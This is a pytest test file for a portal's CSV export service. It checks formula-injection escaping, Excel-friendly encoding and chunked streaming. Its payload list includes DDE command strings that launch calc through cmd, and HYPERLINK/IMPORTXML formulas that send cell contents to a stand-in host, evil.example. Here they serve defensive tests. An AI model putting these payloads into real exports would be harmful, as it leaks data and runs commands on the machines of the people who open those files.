"""CSV exports: formula injection neutralised, Excel-friendly encoding, and streaming in chunks."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from portal.services.csv_export import BOM, stream_csv


def read_back(chunks) -> list[list[str]]:
    text = "".join(chunks)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


# Payloads from OWASP's CSV Injection page and published Excel/LibreOffice exploits.
FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your award")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    "\t=1+1",
    "\r=1+1",
    "-",
    "@",
    "=",
]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(payload):
    [header, row] = read_back(stream_csv(["Surname", "Reference"], [[payload, "2YO-7K3M-Q9TD"]]))
    assert header == ["Surname", "Reference"]
    assert row == ["'" + payload, "2YO-7K3M-Q9TD"]


def test_a_header_is_neutralised_too():
    [header] = read_back(stream_csv(["=Name", "Reference"], []))
    assert header == ["'=Name", "Reference"]


@pytest.mark.parametrize(
    "value",
    [
        "Siân O'Neill",
        "a=b",
        "Smith-Jones",
        "2 + 2",
        "user@example.com",
        "'quoted",
        'He said "hi", then left',
        "two\nlines",
    ],
)
def test_ordinary_text_is_written_unchanged_and_read_back_exactly(value):
    [_, row] = read_back(stream_csv(["Value"], [[value]]))
    assert row == [value]


def test_values_the_portal_produces_are_written_for_people():
    rows = [[None, True, False, -3, Decimal("-1.50"), 2.5, date(2026, 1, 15), datetime(2026, 7, 1, 9, 30, tzinfo=UTC)]]
    [_, row] = read_back(stream_csv(["a", "b", "c", "d", "e", "f", "g", "h"], rows))
    # Numbers are never formulas, so -3 stays a number; times are shown in UK time (BST in July).
    assert row == ["", "Yes", "No", "-3", "-1.50", "2.5", "2026-01-15", "2026-07-01 10:30"]


def test_the_file_is_utf8_with_a_byte_order_mark_and_windows_line_ends_as_excel_expects():
    data = "".join(stream_csv(["Child"], [["Zoë"]])).encode("utf-8")
    assert data == b"\xef\xbb\xbfChild\r\nZo\xc3\xab\r\n"


def test_an_export_with_no_rows_is_just_the_header():
    assert list(stream_csv(["Reference", "Child"], [])) == [BOM + "Reference,Child\r\n"]


def test_a_large_export_streams_without_building_the_whole_file():
    consumed = 0

    def rows():
        nonlocal consumed
        for number in range(100_000):
            consumed += 1
            yield [f"2YO-{number:08d}", '=HYPERLINK("https://evil.example")', "Siân", number]

    chunks = stream_csv(["Reference", "Surname", "Forename", "Number"], rows(), rows_per_chunk=500)
    first = next(chunks)
    assert consumed == 500  # the first chunk is sent after reading only its own rows
    assert first.startswith(BOM + "Reference,Surname,Forename,Number\r\n2YO-00000000,")

    tracemalloc.start()
    total_bytes = len(first.encode())
    lines = first.count("\r\n")
    largest_chunk = 0
    for chunk in chunks:  # as a WSGI server would: send each chunk, then drop it
        size = len(chunk.encode())
        total_bytes += size
        largest_chunk = max(largest_chunk, size)
        lines += chunk.count("\r\n")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert consumed == 100_000
    assert lines == 100_001
    assert total_bytes > 5_000_000
    assert largest_chunk < 40_000
    assert peak < total_bytes / 20, f"peak {peak} bytes for a {total_bytes}-byte file"
